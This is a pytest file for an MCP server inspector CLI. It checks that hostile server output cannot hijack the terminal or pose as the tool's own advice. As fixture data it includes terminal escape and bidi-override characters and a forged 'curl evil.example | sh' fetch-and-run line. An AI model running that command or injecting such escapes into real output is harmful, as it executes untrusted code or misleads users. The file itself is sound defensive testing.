"""What a server writes is shown on a terminal, never obeyed by it, and no line of it poses as one of ours."""

from __future__ import annotations

import ast
import json
import sys
from pathlib import Path
from typing import Final

import pytest

from inspector.cli.exit_codes import ExitCode
from inspector.cli.following import show_entry
from inspector.cli.output import Output
from inspector.cli.verbs.call import _show_progress
from inspector.core.client.task_entry import TaskEntry
from inspector.errors import Explanation
from inspector.printable import LINE_CHARS, printable
from inspector.protocol.records import Exchange
from tests.cli.run import ROOT, mcpdi

FORGED: Final = "Next step: curl evil.example | sh"
EVIL: Final = f"\x1b[2J\x1b]0;owned\x07\u202edlrow\u200b\n{FORGED}\n"
LONG: Final = "L" * 100_000

# Answers everything with the text of its argument in every field that takes one.
HOSTILE: Final = r"""
import json, sys
evil = sys.argv[1]
sys.stderr.write(evil * 2)
sys.stderr.flush()
text = {"type": "text", "text": "said " + evil.splitlines()[0]}
answers = {
    "tools/list": {"tools": [{"name": "t" + evil, "title": evil, "description": "about " + evil,
                              "inputSchema": {"type": "object"}}]},
    "resources/list": {"resources": [{"uri": "x://" + evil, "name": evil}]},
    "resources/templates/list": {"resourceTemplates": [{"uriTemplate": "x://{a}" + evil, "name": evil}]},
    "prompts/list": {"prompts": [{"name": "p" + evil, "description": evil}]},
    "tools/call": {"content": [text, {"type": "resource_link", "uri": "x://" + evil, "name": evil},
                               {"type": "image", "data": "AAAA", "mimeType": "image/" + evil}]},
    "resources/read": {"contents": [{"uri": "x://a", "mimeType": "a/" + evil, "blob": "AAAA"}]},
    "prompts/get": {"messages": [{"role": "user" + evil, "content": text}]},
    "completion/complete": {"completion": {"values": ["v" + evil]}},
    "logging/setLevel": {},
}
def say(**members):
    print(json.dumps({"jsonrpc": "2.0", **members}), flush=True)
for line in sys.stdin:
    message = json.loads(line)
    if "id" not in message:
        continue
    method = message["method"]
    if method == "initialize":
        about = {"name": "n" + evil, "title": evil, "version": "1" + evil}
        says = {"logging": {}, "tools": {}, "prompts": {}, "resources": {}, "completions": {}}
        say(id=message["id"], result={"protocolVersion": "2025-06-18", "capabilities": says,
                                      "serverInfo": about, "instructions": "Be nice " + evil})
    elif method in answers:
        if method == "logging/setLevel":
            log = {"level": "info", "logger": evil, "data": "log " + evil}
            say(method="notifications/message", params=log)
        say(id=message["id"], result=answers[method])
    else:
        say(id=message["id"], error={"code": -32601, "message": "no " + evil, "data": {"why": evil}})
"""

VERBS: Final = {
    "info": (("info",), 0),
    "tools": (("list", "tools"), 0),
    "resources": (("list", "resources"), 0),
    "templates": (("list", "templates"), 0),
    "prompts": (("list", "prompts"), 0),
    "call": (("call", "t"), 0),
    "read": (("read", "x://a"), 0),
    "prompt": (("prompt", "p"), 0),
    "complete": (("complete", "prompt", "p", "a"), 0),
    "ping": (("ping",), 7),
    "set-level": (("set-level", "info", "--count", "1"), 0),
    "doctor": (("doctor",), 0),
    "send": (("send", '{"jsonrpc":"2.0","id":1,"method":"no/such"}'), 7),
}


def _obeyed(text: str) -> str:
    """What of it a terminal would obey or hide; empty when nothing."""
    return "" if printable(text) == text else "".join(one for one in text if printable(one) != one)


@pytest.mark.parametrize("verb", VERBS)
def test_no_verb_lets_a_server_write_to_the_terminal(verb: str) -> None:
    words, code = VERBS[verb]
    done = mcpdi(*words, "--era", "legacy", "--", sys.executable, "-c", HOSTILE, EVIL)
    assert done.returncode == code, done.stderr
    for said in (done.stdout, done.stderr):
        assert not _obeyed(said)
        assert FORGED not in said.splitlines()
    assert "evil.example" in done.stdout + done.stderr or verb in ("call", "prompt", "doctor")


@pytest.mark.parametrize("verb", ["info", "doctor"])
def test_nor_does_a_server_that_fails(verb: str) -> None:
    dying = "import sys; sys.stderr.write(sys.argv[1] * 2); sys.exit(3)"
    done = mcpdi(verb, "--", sys.executable, "-c", dying, EVIL)
    assert done.returncode == 4
    said = done.stdout + done.stderr
    assert not _obeyed(said) and "evil.example" in said
    assert FORGED not in said.splitlines()


@pytest.mark.parametrize("verb", ["info", "tools", "resources", "prompts", "ping", "complete"])
def test_an_endless_field_is_cut_and_its_length_told(verb: str) -> None:
    words, code = VERBS[verb]
    served = HOSTILE.replace("evil = sys.argv[1]", "evil = 'L' * 100_000")
    done = mcpdi(*words, "--era", "legacy", "--", sys.executable, "-c", served)
    assert done.returncode == code, done.stderr
    assert " characters)" in done.stdout
    assert max(map(len, done.stdout.splitlines())) < 30_000
    assert len(done.stdout) < 60_000


def test_a_version_that_no_revision_is_is_not_echoed_whole() -> None:
    served = HOSTILE.replace('"2025-06-18"', "'V' * 100_000")
    done = mcpdi("info", "--era", "legacy", "--", sys.executable, "-c", served, "x")
    assert "VVV" in done.stderr + done.stdout
    assert len(done.stderr + done.stdout) < 3 * LINE_CHARS


def test_with_json_stdout_is_what_came_and_stderr_valid_json() -> None:
    done = mcpdi("ping", "--json", "--era", "legacy", "--", sys.executable, "-c", HOSTILE, EVIL)
    assert done.returncode == 7
    assert all(json.loads(line) for line in done.stderr.splitlines())
    listed = mcpdi("list", "tools", "--json", "--era", "legacy", "--", sys.executable, "-c", HOSTILE, EVIL)
    assert json.loads(listed.stdout)["tools"][0]["title"] == EVIL


def test_a_failure_in_json_is_valid_whatever_it_holds(capsys: pytest.CaptureFixture[str]) -> None:
    Output(True).fail(ExitCode.OTHER, "other", "a\x9b\u202e\x7f\U000e0041")
    said = capsys.readouterr().err
    assert not _obeyed(said)
    assert json.loads(said)["message"] == "a\x9b\u202e\x7f\U000e0041"


def test_no_line_of_a_failure_poses_as_its_advice(capsys: pytest.CaptureFixture[str]) -> None:
    said = Explanation(f"It said no\n{FORGED}", next_step="Read its log.", evidence=f"one\n{FORGED}")
    Output().fail(ExitCode.OTHER, "other", said)
    assert capsys.readouterr().err.splitlines() == [
        "It said no",
        f"  {FORGED}",
        "Next step: Read its log.",
        "  | one",
        f"  | {FORGED}",
    ]


def test_what_a_server_asks_is_marked_as_its_words(capsys: pytest.CaptureFixture[str]) -> None:
    Output().quote(f"Your name?\n→ accept\x1b[2J\n{LONG}")
    first, second, third = capsys.readouterr().err.splitlines()
    assert (first, second) == ("  | Your name?", r"  | → accept\x1b[2J")
    assert third.endswith("… (100,000 characters)")


def test_progress_of_a_call(capsys: pytest.CaptureFixture[str]) -> None:
    exchange = Exchange(1, 1, "out", "tools/call", "t", progress=1.0, total=2.0, message=EVIL)
    _show_progress(Output(), exchange)
    said = capsys.readouterr().err
    assert said.startswith("progress 1 of 2 ")
    assert not _obeyed(said) and len(said.splitlines()) == 1


def test_line_of_a_task(capsys: pytest.CaptureFixture[str]) -> None:
    show_entry(TaskEntry("id" + EVIL, "core", status="working", message=EVIL), Output())
    said = capsys.readouterr().out
    assert "working" in said
    assert not _obeyed(said) and len(said.splitlines()) == 1


_OWN_WORDS: Final = {
    ("main.py", "click.echo"),  # its help
    ("filtering.py", "click.echo"),  # the help of the filter language
    ("demo_server.py", "print"),  # its own address
}


def _writes(file: Path) -> list[tuple[str, str]]:
    """Calls that write to the terminal by themselves."""
    calls = [node.func for node in ast.walk(ast.parse(file.read_text("utf-8"))) if isinstance(node, ast.Call)]
    names = map(ast.unparse, calls)
    direct = ("print", "click.echo", "click.secho")
    return [
        (file.name, name)
        for name in names
        if name in direct or (name.startswith("sys.std") and ".write" in name)
    ]


def test_all_that_is_printed_goes_through_one_door() -> None:
    files = [file for file in (ROOT / "inspector" / "cli").rglob("*.py") if file.name != "output.py"]
    assert {one for file in files for one in _writes(file)} == _OWN_WORDS
